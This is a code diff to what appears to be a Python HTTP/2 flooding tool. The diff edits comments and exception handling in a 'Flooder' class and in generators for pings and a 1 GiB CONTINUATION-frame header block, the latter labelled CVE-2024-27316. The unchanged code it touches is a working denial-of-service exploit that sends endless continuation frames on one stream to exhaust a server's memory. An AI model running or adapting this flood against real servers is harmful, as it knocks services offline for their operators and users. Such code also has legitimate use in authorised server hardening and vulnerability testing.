@@ -49,7 +49,6 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 
 def head() -> bytes:
     fields = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")]
-    # Without names that a table would have to keep: each stream has the same block.
     block: bytes = hpack.Encoder().encode(fields, huffman=False)
     return block
 
@@ -74,7 +73,7 @@ def pings() -> Iterator[bytes]:
 def continuations() -> Iterator[bytes]:
     """A header block of 1 GiB (CVE-2024-27316)."""
     yield frame(HEADERS, END_STREAM, 1, head())
-    piece = b"\x00\x01x\x7f\x80\x7c" + b"y" * 15_999  # a field that goes on beyond the frame
+    piece = b"\x00\x01x\x7f\x80\x7c" + b"y" * 15_999  # one field
     for _ in range((1 << 30) // len(piece)):
         yield frame(CONTINUATION, 0, 1, piece)
 
@@ -106,7 +105,9 @@ class Flooder:
                             return
                     while sock.recv(1 << 16):
                         pass
-                except OSError:
+                except TimeoutError:
+                    continue  # it was neither read nor ended
+                except OSError:  # ended with what was on its way unread
                     pass
                 self.closed += 1
 
